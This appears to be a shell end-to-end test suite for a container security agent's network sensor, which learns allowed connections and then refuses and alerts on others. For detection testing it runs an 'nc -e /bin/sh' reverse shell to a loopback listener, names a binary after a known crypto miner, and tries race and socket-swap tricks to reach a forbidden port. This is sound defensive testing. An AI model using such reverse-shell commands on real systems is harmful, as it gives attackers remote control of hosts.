# The network sensor on real containers.  Every packet stays on loopback
# inside network namespaces the tests create.

# expect_net_alert DESCRIPTION BEFORE DIRECTION PORT CONTAINER: one new
# alert, from the network sensor, for that direction and port.
expect_net_alert() {
	sleep 0.2
	now=$(alert_count)
	last=$(last_alert)
	if [ "$now" -ne $(($2 + 1)) ]; then
		fail "$1" "expected 1 new alert, got $((now - $2))" "$(tail -3 "$WORK/alerts.json" 2>/dev/null)"
	elif ! printf '%s' "$last" | grep -qF "\"sensor\":\"network\""; then
		fail "$1" "alert is not from the network sensor" "$last"
	elif ! printf '%s' "$last" | grep -qF "\"direction\":\"$3\""; then
		fail "$1" "alert is not for a $3" "$last"
	elif [ -n "$4" ] && ! printf '%s' "$last" | grep -qF "\"port\":$4"; then
		fail "$1" "alert is not for port $4" "$last"
	elif ! printf '%s' "$last" | grep -qF "\"container_id\":\"$5\""; then
		fail "$1" "alert is not for container \`$5\`" "$last"
	else
		pass "$1"
	fi
}

# reverse_shell_to PORT: in container $id, nc connects to a listener on
# PORT in $netns and hands the connection to a shell (nc -e /bin/sh).
reverse_shell_to() {
	nsenter --net="$netns" "$BUSYBOX" nc -l -p "$1" </dev/null >/dev/null 2>&1 &
	listener=$!
	sleep 0.3
	"$VIGIL_BUILDDIR/vigil-runc" --vigil-config "$conf" exec "$id" nc 127.0.0.1 "$1" -e /bin/sh >/dev/null 2>&1
	kill "$listener" 2>/dev/null
	wait "$listener" 2>/dev/null
}

# accepted PORT: connections the test server accepted on PORT.
accepted() {
	grep -cx "$1" "$WORK/accepts" 2>/dev/null || true
}

test_network() {
	E2E_GROUP=network
	image="$E2E_PREFIX-network"
	key="-/-/-/$image"
	conf="$WORK/network.conf"
	bundle="$WORK/network-bundle"
	id="$E2E_PREFIX-network-1"
	netns="$WORK/netns"
	denied="operation not permitted"
	rt() { "$VIGIL_BUILDDIR/vigil-runc" --vigil-config "$conf" "$@"; }
	in_netns() { nsenter --net="$netns" "$@"; }

	if [ ! -x "$WORK/nethelper" ]; then
		fail "network helper built" "see $WORK/nethelper.log"
		return
	fi
	printf '# test feed\n127.0.0.9\n' >"$WORK/feed.txt"
	write_config "$conf" alert_outputs=file,stdout "metrics_file=$WORK/metrics.prom" "address_feed=$WORK/feed.txt"
	start_agent "$conf" || return

	# A network namespace of the test's own, with loopback up; the
	# servers run in it, outside the container.
	touch "$netns"
	if ! unshare --net="$netns" true || ! in_netns "$BUSYBOX" ip link set lo up; then
		fail "create a network namespace" "unshare or ip failed"
		return
	fi
	rm -f "$WORK/accepts"
	in_netns "$WORK/nethelper" serve "$WORK/accepts" 7001 7002 7005 >"$WORK/servers.log" 2>&1 &
	servers=$!
	in_netns "$WORK/nethelper" full 7004 >/dev/null 2>&1 &
	full=$!
	wait_until 5 in_netns "$WORK/nethelper" connect 127.0.0.1 7005 >/dev/null

	write_bundle "$bundle" "$image" sleep 600
	sed -i "s|{\"type\": \"network\"}|{\"type\": \"network\", \"path\": \"$netns\"}|" "$bundle/config.json"
	# Raw and packet sockets are watched only where the process may hold
	# CAP_NET_RAW; without it the kernel refuses them by itself.
	sed -i 's|"CAP_KILL"|"CAP_NET_RAW", "CAP_KILL"|g' "$bundle/config.json"
	# A link named like a known miner (busybox has no such applet).
	ln -sf busybox "$bundle/rootfs/bin/xmrig"
	expect_ok_detached "run a container in the test's namespace" rt run -d --bundle "$bundle" "$id"

	# Learning.
	expect_ok "connect while learning" rt exec "$id" nethelper connect 127.0.0.1 7001
	expect_contains "the server answered" "hello 7001" "$LAST_OUTPUT"
	expect_ok "non-blocking connect while learning" rt exec "$id" nethelper connect-nb 127.0.0.1 7001
	expect_ok "listen while learning" rt exec "$id" nethelper listen 8080
	expect_ok "datagram while learning" rt exec "$id" nethelper udp 127.0.0.1 5353
	expect_ok "learn the full queue's port" rt exec "$id" nethelper connect-nb 127.0.0.1 7004
	expect_ok "learn the race program" rt exec "$id" nethelper race 127.0.0.1 7001 7001 20
	# Unix sockets: vigild makes the calls as the process (its root, ids
	# and capabilities), so the peer sees the process's uid.
	rt exec -d "$id" nethelper userve /tmp/u.sock >/dev/null 2>&1
	wait_until 5 rt exec "$id" sh -c 'test -S /tmp/u.sock'
	expect_ok "unix connect while learning" rt exec "$id" nethelper uconnect /tmp/u.sock
	expect_contains "the unix server sees the client's uid" "peer uid 0" "$LAST_OUTPUT"
	# The socket file is root's (mode 755): the kernel checks uid 1000's
	# permission, as it would without Vigil, and lets it in once opened.
	expect_denied "a unix connect is checked with the process's uid" "permission denied" \
		rt exec --user 1000:1000 "$id" nethelper uconnect /tmp/u.sock
	expect_ok "open the socket file to all" rt exec "$id" chmod 777 /tmp/u.sock
	expect_ok "learn the netlink swap program" rt exec "$id" nethelper swap 7002 1
	# Crypto miners, by name and by the ports of mining pools: threats,
	# alerted even while learning.
	rt exec "$id" xmrig >/dev/null 2>&1
	expect_contains "a known miner is alerted while learning" \
		'"reason":"crypto miner: `xmrig` is the name of a known miner","action":"alerted"' "$(cat "$WORK/alerts.json")"
	rt exec "$id" nethelper connect 127.0.0.1 3333 >/dev/null 2>&1
	expect_contains "a mining pool port is alerted while learning" \
		'"reason":"crypto miner: destination tcp 127.0.0.1:3333 is on a port of mining pools","action":"alerted"' \
		"$(cat "$WORK/alerts.json")"
	# The operator's address feed: refused in every mode, and reloaded on
	# SIGHUP; a feed with an error leaves the previous one in force.
	expect_denied "an address of the feed is refused while learning" "$denied" \
		rt exec "$id" nethelper connect 127.0.0.9 7001
	expect_contains "the feed's refusal names the feed and line" \
		"\"reason\":\"high-risk address: destination tcp 127.0.0.9:7001 is in $WORK/feed.txt (line 2)\"" \
		"$(cat "$WORK/alerts.json")"
	printf '127.0.0.9\n127.0.0.10/32\n' >"$WORK/feed.txt"
	kill -HUP "$AGENT_PID"
	wait_until 5 grep -q "address feed .* reloaded: 2" "$WORK/vigild.log"
	expect_denied "a reloaded feed applies at once" "$denied" rt exec "$id" nethelper connect 127.0.0.10 7001
	printf '127.0.0.10/40\n' >"$WORK/feed.txt"
	kill -HUP "$AGENT_PID"
	wait_until 5 grep -q "feed.txt:1: .127.0.0.10/40. is not an IPv4 or IPv6 address or CIDR; the previous" "$WORK/vigild.log"
	expect_contains "a feed with an error is rejected with its file and line" \
		"feed.txt:1: \`127.0.0.10/40\` is not an IPv4 or IPv6 address or CIDR; the previous address feed stays in force" \
		"$(cat "$WORK/vigild.log")"
	expect_denied "a feed with an error leaves the previous one in force" "$denied" \
		rt exec "$id" nethelper connect 127.0.0.10 7001

	# A reverse shell: nc hands its connection to a shell as its standard
	# input and output.  A threat, alerted even while learning.
	reverse_shell_to 7100
	expect_contains "a reverse shell is alerted while learning" \
		'"reason":"reverse shell: standard input and output are a network connection (127.0.0.1:7100)","action":"alerted"' \
		"$(grep 'reverse shell' "$WORK/alerts.json")"
	# The agent binds for the process, so it applies the namespace's
	# unprivileged port limit to the process's capabilities, as the kernel.
	in_netns sh -c 'echo 2000 >/proc/sys/net/ipv4/ip_unprivileged_port_start'
	expect_denied "binding below the namespace's unprivileged ports needs the capability" \
		"permission denied" rt exec "$id" nethelper listen-nocap 1500
	expect_ok "binding above them does not" rt exec "$id" nethelper listen-nocap 2500
	wait_for_active "$key" || return
	f=$(model_file "$key")
	model=$(cat "$f")
	expect_contains "model holds the destination" '"address": "127.0.0.1"' "$model"
	expect_contains "model holds the destination port" '"port": 7001' "$model"
	expect_contains "model holds the listening port" '"port": 8080' "$model"
	expect_contains "model holds the datagram destination" '"protocol": "udp"' "$model"

	# Active: the learned calls work as before.
	expect_ok "learned connect works" rt exec "$id" nethelper connect 127.0.0.1 7001
	expect_contains "learned connect reaches the server" "hello 7001" "$LAST_OUTPUT"
	expect_ok "learned non-blocking connect works" rt exec "$id" nethelper connect-nb 127.0.0.1 7001
	expect_contains "non-blocking connect reports EINPROGRESS, then connects" "EINPROGRESS
connected" "$LAST_OUTPUT"
	expect_ok "learned listen works" rt exec "$id" nethelper listen 8080
	expect_ok "learned datagram is sent" rt exec "$id" nethelper udp 127.0.0.1 5353
	reverse_shell_to 7100
	expect_contains "a reverse shell is denied once the model is active" \
		'"reason":"reverse shell: standard input and output are a network connection (127.0.0.1:7100)","action":"denied"' \
		"$(grep 'reverse shell' "$WORK/alerts.json")"
	expect_ok "learned unix connect works as another uid" rt exec --user 1000:1000 "$id" nethelper uconnect /tmp/u.sock
	expect_contains "the unix server sees that uid, not vigild's" "peer uid 1000" "$LAST_OUTPUT"

	# Active: anything else is refused with one alert each.
	before=$(alert_count)
	got=$(accepted 7002)
	expect_denied "connect to a new port is refused" "$denied" rt exec "$id" nethelper connect 127.0.0.1 7002
	expect_net_alert "refused connect alerted once" "$before" connect 7002 "$id"
	expect_contains "the refused connect never reached the server" "$got" "$(accepted 7002)"
	# The fields of Falco's JSON output, and the same line on stdout.
	last=$(last_alert)
	expect_contains "the alert names its rule" '"rule":"Destination outside the model","priority":"Error"' "$last"
	expect_contains "the alert has Falco's output fields" '"fd.name":"127.0.0.1","fd.l4proto":"tcp","fd.port":7002' "$last"
	expect_contains "the alert has a host name and tags" "\"hostname\":\"$(hostname)\",\"tags\":[\"vigil\",\"container\",\"network\"]" "$last"
	expect_contains "the alert says its effect" '"effect":"prevent","count":1' "$last"
	expect_contains "the alert went to stdout too" "$last" "$(cat "$WORK/vigild.log")"

	before=$(alert_count)
	expect_denied "non-blocking connect to a new port is refused" "$denied" \
		rt exec "$id" nethelper connect-nb 127.0.0.1 7002
	expect_net_alert "refused non-blocking connect alerted" "$before" connect 7002 "$id"

	before=$(alert_count)
	expect_denied "listen on a new port is refused" "$denied" rt exec "$id" nethelper listen 8081
	expect_net_alert "refused listen alerted" "$before" listen 8081 "$id"

	before=$(alert_count)
	expect_denied "datagram to a new destination is refused" "$denied" rt exec "$id" nethelper udp 127.0.0.1 5354
	expect_net_alert "refused datagram alerted" "$before" connect 5354 "$id"

	# IPv4 sendto takes AF_UNSPEC for AF_INET.
	before=$(alert_count)
	expect_denied "datagram to a new destination as AF_UNSPEC is refused" "$denied" \
		rt exec "$id" nethelper udp-unspec 127.0.0.1 5355
	expect_net_alert "refused AF_UNSPEC datagram alerted" "$before" connect 5355 "$id"

	before=$(alert_count)
	expect_denied "packet socket is refused" "$denied" rt exec "$id" nethelper raw
	expect_net_alert "refused packet socket alerted" "$before" socket "" "$id"
	before=$(alert_count)
	expect_denied "packet socket with high bits in its family is refused" "$denied" \
		rt exec "$id" nethelper packet-hi
	expect_net_alert "refused packet socket with high bits alerted" "$before" socket "" "$id"

	# vigilctl: the network section of the model, and the sockets of the
	# namespace read from the kernel, with their owners.
	ctl() { "$VIGIL_BUILDDIR/vigilctl" --config "$conf" "$@"; }
	expect_ok "vigilctl shows the model" ctl models show "$key"
	expect_contains "models show has a network section" "Network: 3 listening, 5 destinations" "$LAST_OUTPUT"
	expect_contains "models show lists the destination" "127.0.0.1:7001" "$LAST_OUTPUT"
	rt exec "$id" nethelper listen 8080 5 >/dev/null 2>&1 &
	holder=$!
	wait_until 5 sh -c "'$VIGIL_BUILDDIR/vigilctl' --config '$conf' containers sockets '$id' | grep -q ' 8080 '"
	expect_ok "vigilctl lists the listening sockets" ctl containers sockets "$id"
	expect_contains "the container's listener is its own and learned" "nethelper        yes       yes" \
		"$(printf '%s\n' "$LAST_OUTPUT" | grep ' 8080 ')"
	expect_contains "the test's server is not the container's" "no        no" \
		"$(printf '%s\n' "$LAST_OUTPUT" | grep ' 7002 ')"
	kill "$holder" 2>/dev/null
	wait "$holder" 2>/dev/null

	# Blocking connects that hang (the peer's queue is full), more of them
	# than the agent has workers, stall only their own process.
	rt exec "$id" nethelper hang 127.0.0.1 7004 80 >/dev/null 2>&1 &
	hanging=$!
	sleep 2
	start=$(date +%s%N)
	expect_ok "connects go on while 80 others hang" timeout 5 \
		"$VIGIL_BUILDDIR/vigil-runc" --vigil-config "$conf" exec "$id" nethelper connect 127.0.0.1 7001
	elapsed=$((($(date +%s%N) - start) / 1000000))
	if [ "$elapsed" -lt 3000 ]; then
		pass "the hanging connects did not stall the agent (${elapsed} ms)"
	else
		fail "the hanging connects did not stall the agent" "${elapsed} ms"
	fi
	expect_contains "the hanging connects went on in the background" "did not complete at once" "$(cat "$WORK/vigild.log")"

	# A blocking connect restarted after a signal (SA_RESTART) waits on, as
	# without Vigil, instead of failing with EALREADY.
	rt exec "$id" nethelper intr 127.0.0.1 7004 >"$WORK/intr.out" 2>&1 &
	intr=$!
	sleep 2.5
	if kill -0 "$intr" 2>/dev/null; then
		pass "a restarted blocking connect keeps waiting"
	else
		fail "a restarted blocking connect keeps waiting" "it returned: $(cat "$WORK/intr.out")"
	fi
	kill "$hanging" "$intr" 2>/dev/null
	wait "$hanging" "$intr" 2>/dev/null

	# The race: a second thread rewrites the port to a forbidden one
	# while connect() is checked.  The agent connects with the address it
	# checked, so none of the tries reaches the forbidden port.
	got=$(accepted 7002)
	expect_ok "race of 10000 connects with a rewritten address" \
		rt exec "$id" nethelper race 127.0.0.1 7001 7002 10000
	note "race: $LAST_OUTPUT"
	# The refused tries of one process are one alert and a folded count.
	wait_until 5 grep -q '"rule":"Alerts folded".*"reason":"[0-9]* more attempts\{0,1\} of `connect tcp - 7002' "$WORK/alerts.json"
	expect_contains "repeated refusals are folded into a count" '"effect":"none","count":' \
		"$(grep '"rule":"Alerts folded"' "$WORK/alerts.json" | tail -1)"
	sleep 0.5
	if [ "$(accepted 7002)" = "$got" ]; then
		pass "no connection reached the forbidden port"
	else
		fail "no connection reached the forbidden port" "$(($(accepted 7002) - got)) did"
	fi

	# The swap: a second thread puts a TCP socket under the fd number of a
	# netlink socket, and an IPv4 address into the buffer, while connect()
	# is decided.  vigild makes the call on the socket it looked at, so no
	# TCP connect to the forbidden port gets through.
	got=$(accepted 7002)
	expect_ok "2000 connects with the socket swapped under the fd" rt exec "$id" nethelper swap 7002 2000
	note "swap: $LAST_OUTPUT"
	expect_contains "no swapped TCP socket got connected" "won 0 of 2000" "$LAST_OUTPUT"
	sleep 0.5
	if [ "$(accepted 7002)" = "$got" ]; then
		pass "the forbidden port saw no connection"
	else
		fail "the forbidden port saw no connection" "$(($(accepted 7002) - got)) did"
	fi

	rt delete -f "$id" >/dev/null 2>&1
	kill "$servers" "$full" 2>/dev/null
	wait "$servers" "$full" 2>/dev/null
	metrics=$(cat "$WORK/metrics.prom" 2>/dev/null)
	expect_contains "metrics count the network notifications" 'vigil_notifications_total{sensor="network"}' "$metrics"
	if printf '%s\n' "$metrics" | grep -q '^vigil_alerts_total{sensor="network",effect="prevent"} [1-9]'; then
		pass "metrics count the refused calls"
	else
		fail "metrics count the refused calls" "$(printf '%s\n' "$metrics" | grep alerts_total)"
	fi
	stop_agent
	# The worker waiting for the killed client let go when it exited.
	if grep -q "still blocked at exit" "$WORK/vigild.log"; then
		fail "no worker outlives the process it connects for" "$(grep "still blocked" "$WORK/vigild.log")"
	else
		pass "no worker outlives the process it connects for"
	fi
}

# podman: the container's own namespace (--network none has loopback);
# the server is the container's main process.
test_network_podman() {
	E2E_GROUP=network_podman
	conf="$WORK/network-podman.conf"
	name="$E2E_PREFIX-netpod-1"
	denied="connection refused"

	write_config "$conf" network_deny_errno=ECONNREFUSED
	start_agent "$conf" || return
	run_flags=$(podman_run_flags "$conf")

	build_rootfs "$WORK/netpod-rootfs"
	tar -C "$WORK/netpod-rootfs" -cf "$WORK/netpod-rootfs.tar" .
	expect_ok "import the image from a tarball" pm import "$WORK/netpod-rootfs.tar" "localhost/$E2E_PREFIX:netpod"
	image_id=$(pm image inspect --format '{{.Id}}' "localhost/$E2E_PREFIX:netpod")
	key="-/-/-/sha256:$image_id"

	# shellcheck disable=SC2086
	expect_ok "run a server container" pm run -d --name "$name" $run_flags \
		"localhost/$E2E_PREFIX:netpod" nethelper serve /tmp/accepts 7001 7002
	cid=$(pm inspect --format '{{.Id}}' "$name")
	wait_until 5 pm exec "$name" cat /tmp/accepts
	expect_ok "client connects while learning" pm exec "$name" nethelper connect 127.0.0.1 7001
	expect_ok "non-blocking connect while learning" pm exec "$name" nethelper connect-nb 127.0.0.1 7001
	wait_for_active "$key" || return
	model=$(cat "$(model_file "$key")")
	expect_contains "model holds the server's ports" '"port": 7002' "$model"
	expect_contains "model holds the client's destination" '"address": "127.0.0.1"' "$model"

	expect_ok "learned connect works" pm exec "$name" nethelper connect 127.0.0.1 7001
	expect_contains "learned connect reaches the server" "hello 7001" "$LAST_OUTPUT"
	expect_ok "learned non-blocking connect works" pm exec "$name" nethelper connect-nb 127.0.0.1 7001
	expect_contains "non-blocking connect reports EINPROGRESS" "EINPROGRESS" "$LAST_OUTPUT"

	before=$(alert_count)
	expect_denied "connect to the unlearned port is refused" "$denied" \
		pm exec "$name" nethelper connect 127.0.0.1 7002
	expect_net_alert "refused connect alerted once" "$before" connect 7002 "$cid"
	expect_ok "the server never saw it" pm exec "$name" cat /tmp/accepts
	case "$LAST_OUTPUT" in
	*7002*) fail "the refused connect never reached the server" "$LAST_OUTPUT" ;;
	*) pass "the refused connect never reached the server" ;;
	esac

	pm rm -f -t 0 "$name" >/dev/null 2>&1
	pm rmi -f "localhost/$E2E_PREFIX:netpod" >/dev/null 2>&1
	stop_agent
}
